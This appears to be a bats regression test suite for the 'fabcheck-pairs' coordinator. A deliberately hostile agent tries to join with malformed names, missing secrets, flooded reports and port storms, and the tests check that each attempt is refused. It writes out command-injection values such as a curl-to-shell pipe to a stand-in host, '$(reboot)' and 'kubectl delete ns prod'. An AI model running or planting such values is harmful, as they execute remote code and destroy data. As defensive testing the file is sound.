#!/usr/bin/env bats
# A fabcheck-pairs agent that lies on purpose (the driver hostile_agent.py)
# against a real coordinator and real agents on loopback: what it says is
# checked before it reaches good-hosts.txt, a printed command, the verdict
# or the coordinator's memory. The ASan build runs this file too.

load helpers
load pairs

HOSTILE="$BATS_TEST_DIRNAME/hostile_agent.py"
# short: the hostile rank never measures, its partners wait a step out;
# small sizes, so the real pairs end well inside their steps on a loaded box.
# The drivers start first (an interpreter can take seconds on a loaded box),
# then the real agents, whose own --join-timeout runs from their start.
# a step gets 6 s (a third of --pair-timeout): a round's start under ASan beside nine
# other test jobs once took more than 3 s. -T 10: an agent's listener gives a
# connection that says nothing up to 5 s to greet before it takes the next,
# so a partner queued behind the hostile agent's silent connection must
# wait longer than that (issue: accept greetings concurrently)
QUICK=(-p tcp --quick -b --bw-sizes 64K --pair-timeout 18 --join-timeout 8 -T 10)

setup_file() {
	export BATS_NO_PARALLELIZE_WITHIN_FILE=true
}

teardown() {
	pkill -f "fabcheck-pairs.*--coordinator 127.0.0.1:$PORT" 2>/dev/null || true
	pkill -f "hostile_agent.py $PORT" 2>/dev/null || true
}

# hostile RANK NODES SCENARIO [NAME]: the driver in the background, as that
# rank (output in $OUT/NAME.out, default hostile), once it is running (a
# loaded box can take seconds to start an interpreter)
hostile() {
	local name=${4:-hostile}
	timeout 120 python3 "$HOSTILE" "$PORT" "$1" "$2" "$3" >"$OUT/$name.out" 2>"$OUT/$name.err" 3>&- &
	wait_for_text "$OUT/$name.err" "waiting for the coordinator" 60
}

# nothing a sanitizer said, nothing of the hostile text in what people or
# an NCCL job read: the host lists hold only host names, one per line
coordinator_clean_of() { # TEXT
	! grep -q "Sanitizer" "$OUT/coord.err"
	! grep -qF -- "$1" "$OUT/coord.err"
	! grep -qF -- "$1" "$OUT/pairs/good-hosts.txt"
	! grep -qF -- "$1" "$OUT/pairs/bad-hosts.txt"
	! grep -qF -- "$1" "$OUT/pairs/verdict.json"
	! grep -qvE '^[A-Za-z0-9.:-]+$' "$OUT/pairs/good-hosts.txt"
}

@test "hostile_agent_names_that_are_no_host_names_are_refused_at_the_join" {
	local names=('n3; curl -s http://x/x|sh #' '10.0.0.66,evil[1-9] slots=64' $'n3\xc2\x9b2J' $'n\xe2\x80\xaeexe'
		'$(reboot)' "$(printf 'a%.0s' $(seq 300))")
	# six nodes: three real, three hostile names a run (a quorum of three)
	for i in 0 3; do
		hostile 3 6 "name:${names[i]}"
		hostile 4 6 "name:${names[i + 1]}" hostile4
		hostile 5 6 "name:${names[i + 2]}" hostile5
		AGENTS_UPTO=2 agents 6 "" "${QUICK[@]}"
		coordinator 6 "" "${QUICK[@]}"
		# the hostile ranks never joined; the run goes on without them
		[ "$COORD_RC" -eq 1 ]
		[ "$(grep -c "refused a join from 127.0.0.1: its host or node name is not an RFC 1123 host name" "$OUT/coord.err")" -eq 3 ]
		for k in 3 4 5; do
			f=$OUT/hostile$k.out
			[ "$k" -eq 3 ] && f=$OUT/hostile.out
			grep -q "refused: its host or node name" "$f"
			[ "$(verdict_of $k)" = unreachable ]
			coordinator_clean_of "${names[i + k - 3]}"
		done
		[ "$(wc -l <"$OUT/pairs/good-hosts.txt")" -eq 3 ]
		rm -rf "$OUT/pairs"
	done
}

@test "hostile_agent_node_names_for_drain_commands_are_refused_at_the_join" {
	hostile 2 3 "node-name:n3 State=RESUME; kubectl delete ns prod #"
	AGENTS_UPTO=1 agents 3 "" "${QUICK[@]}"
	SLURM_PROCID=0 SLURM_NTASKS=3 coordinator 3 "" "${QUICK[@]}"
	[ "$COORD_RC" -eq 1 ]
	grep -q "refused: its host or node name" "$OUT/hostile.out"
	coordinator_clean_of "kubectl delete"
	coordinator_clean_of "RESUME"
}

@test "hostile_agent_an_agent_of_another_run_is_refused_at_the_join" {
	# two pre-flights on one address and port: the launcher's job id tells
	# them apart, and a missing one is no match either
	for other in job:run-b node-name:n2; do
		hostile 2 3 "$other"
		FABCHECK_JOB_ID=run-a AGENTS_UPTO=1 agents 3 "" "${QUICK[@]}"
		FABCHECK_JOB_ID=run-a coordinator 3 "" "${QUICK[@]}"
		[ "$COORD_RC" -eq 1 ]
		grep -q "refused: it belongs to another run" "$OUT/hostile.out"
		[ "$(verdict_of 2)" = unreachable ]
		[ "$(verdict_of 1)" = pass ] || [ "$(verdict_of 1)" = unknown ]
		rm -rf "$OUT/pairs"
	done
}

@test "hostile_agent_without_the_runs_secret_is_refused_at_the_join" {
	# the job id is no secret (a stranger may read it from a queue); the
	# run's secret is: without it, or with another, no join
	local secret=5f2b9c0e7d1a4e3f8b6c2d9e0a1f3b7c
	for other in "secret:" "secret:0000000000000000000000000000000"; do
		hostile 2 3 "$other"
		FABCHECK_RUN_SECRET=$secret AGENTS_UPTO=1 agents 3 "" "${QUICK[@]}"
		FABCHECK_RUN_SECRET=$secret coordinator 3 "" "${QUICK[@]}"
		[ "$COORD_RC" -eq 1 ]
		grep -q "refused: it does not present this run's secret" "$OUT/hostile.out"
		[ "$(verdict_of 2)" = unreachable ]
		[ "$(verdict_of 1)" = pass ] || [ "$(verdict_of 1)" = unknown ]
		# never echoed
		! grep -rq "$secret" "$OUT/coord.err" "$OUT/coord.out" "$OUT/agent1.log" "$OUT/pairs"
		rm -rf "$OUT/pairs"
	done
	# a secret that is no secret is refused before anything starts
	FABCHECK_RUN_SECRET=short run "$PAIRS" --rank 0 --nodes 2 -p tcp
	[ "$status" -eq 2 ]
	[[ "$output" == *"FABCHECK_RUN_SECRET must be 16 to 128"* ]]
	[[ "$output" != *"short"* ]]
}

@test "hostile_agent_a_report_for_a_round_without_a_partner_loses_that_agent_not_the_coordinator" {
	# three nodes: every round one sits out, and the hostile rank reports a
	# failure then (a partner index of -1 crashed the coordinator once)
	hostile 2 3 report-unpaired
	AGENTS_UPTO=1 agents 3 "" "${QUICK[@]}"
	coordinator 3 "" "${QUICK[@]}"
	[ "$COORD_RC" -eq 1 ]
	! grep -q "Sanitizer" "$OUT/coord.err"
	grep -q "rank 2) is unreachable: it reported measurements for a round in which it had no partner" "$OUT/coord.err"
	[ "$(verdict_of 2)" = unreachable ]
	jq -e '.verdict == "fail"' "$OUT/pairs/verdict.json"
}

@test "hostile_agent_a_flood_of_records_is_refused_by_the_rounds_plan_and_never_stored" {
	hostile 2 3 report-flood:5000
	AGENTS_UPTO=1 agents 3 "" "${QUICK[@]}"
	coordinator 3 "" "${QUICK[@]}"
	[ "$COORD_RC" -eq 1 ]
	! grep -q "Sanitizer" "$OUT/coord.err"
	grep -q "rank 2) is unreachable: its report holds more records than its round's plan" "$OUT/coord.err"
	# none of them reached the records: pairs.jsonl holds only the real ranks'
	[ "$(jq -s 'map(select(.rank == 2 and .test == "pingpong")) | length' "$OUT/pairs/pairs.jsonl")" -eq 0 ]
	[ "$(wc -c <"$OUT/pairs/pairs.jsonl")" -lt 200000 ]
}

@test "hostile_agent_a_stranger_on_an_agents_port_cannot_take_its_partners_place" {
	# rank 2's data port, found from its process, stormed with test HELLOs
	# by someone who never joined: without the round's token it is refused
	# every time, and rank 2 passes with every partner
	agents 4 "" -p tcp --quick -b --fail 0.05 --warn 0.1 --pair-timeout 60
	local pid="" port=""
	for _ in $(seq 200); do
		pid=$(pgrep -f -- "^$PAIRS --rank 2 --nodes 4 --coordinator 127.0.0.1:$PORT" | head -1)
		[ -n "$pid" ] && port=$(ss -Htlnp | grep "pid=$pid," | awk '{print $4}' | sed 's/.*://' | head -1)
		[ -n "$port" ] && break
		sleep 0.05
	done
	[ -n "$port" ]
	timeout 120 python3 "$HOSTILE" stranger "$port" 30 >"$OUT/stranger.out" 2>&1 3>&- &
	stranger=$!
	coordinator 4 "" -p tcp --quick -b --fail 0.05 --warn 0.1 --pair-timeout 60
	kill "$stranger" 2>/dev/null || true
	wait "$stranger" 2>/dev/null || true
	cat "$OUT/stranger.out" "$OUT/agent2.log"
	! grep -q ACCEPTED "$OUT/stranger.out"
	grep -q "ignoring a client from 127.0.0.1: it is not the partner the coordinator named for this round" "$OUT/agent2.log"
	[ "$COORD_RC" -eq 0 ]
	[ "$(verdict_of 2)" = pass ]
}
